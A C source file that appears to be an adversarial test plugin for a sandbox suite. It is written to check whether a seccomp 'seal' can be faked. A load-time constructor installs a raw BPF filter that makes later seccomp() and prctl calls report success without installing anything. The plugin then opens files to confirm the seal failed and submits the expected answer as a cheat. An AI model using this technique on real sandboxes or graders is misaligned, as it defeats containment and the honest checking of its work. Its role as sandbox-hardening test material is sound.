/* Attack: keep the jail from sealing. A plugin's process loads the plugin
 * under a looser seccomp filter (files may be opened for reading, seccomp()
 * may be called) and then narrows it ("seals": docs/sandbox.md) before any
 * step. A constructor runs while it loads: this one installs a filter of
 * its own (raw BPF through seccomp(2), no libseccomp) that answers every
 * later seccomp() — and prctl(PR_SET_SECCOMP) — with success (RET_ERRNO
 * with errno 0) without installing anything, and allows everything else.
 * Filters stack and the strictest answer wins, so the loading filter still
 * holds, but the seal the host then "installs" never is. At its first step
 * it opens a file for reading (its own shared object, found with dladdr,
 * then /dev/null, then /etc/hostname): only the loading filter allows
 * that; sealed, the process ends with SIGSYS. When the open works it hands
 * in the right answer (rk4), whether its filter faked the seal or no seal
 * was tried at all. No marker files: the loading filter forbids
 * creating files, and any forbidden call would end it before the answer.
 * (Outside any jail there is no seal to fake; the suite grades jailed.) */
#define EVIL_FAMILY "ctor-seal"
#include "evil.h"
#include <dlfcn.h>
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stddef.h>

#if defined(__x86_64__)
#define CS_ARCH AUDIT_ARCH_X86_64
#elif defined(__aarch64__)
#define CS_ARCH AUDIT_ARCH_AARCH64
#elif defined(__riscv) && __riscv_xlen == 64
#define CS_ARCH AUDIT_ARCH_RISCV64
#else
#error "ctor-seal: an architecture this file does not know"
#endif
#ifndef SYS_seccomp
#error "ctor-seal: no seccomp system call number"
#endif

static int installed; /* 1: the constructor's filter is in place */

__attribute__((constructor)) static void at_load(void)
{
    struct sock_filter code[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, arch)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, CS_ARCH, 1, 0),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_seccomp, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | 0), /* "installed" */
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_prctl, 0, 3),
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, args[0])), /* low half */
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, PR_SET_SECCOMP, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | 0),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog prog = { .len = (unsigned short)(sizeof code / sizeof code[0]), .filter = code };
    /* In the jail no-new-privileges is set already (and prctl is not
     * allowed while loading): set it only when the kernel asks for it. */
    long rc = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &prog);
    if (rc != 0 && errno == EACCES && prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) == 0)
        rc = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &prog);
    installed = rc == 0;
}

/* At the first step: a file opened for reading means no seal holds. */
static void evil_attack(void)
{
    Dl_info self;
    const char *paths[3] = { NULL, "/dev/null", "/etc/hostname" };
    if (dladdr((void *)&installed, &self) && self.dli_fname && self.dli_fname[0] == '/')
        paths[0] = self.dli_fname;
    for (int i = 0; i < 3; i++) {
        if (!paths[i])
            continue;
        int fd = open(paths[i], O_RDONLY | O_CLOEXEC);
        if (fd >= 0) {
            close(fd);
            evil_cheat = 1; /* faked seal (installed), or none at all */
            return;
        }
    }
}
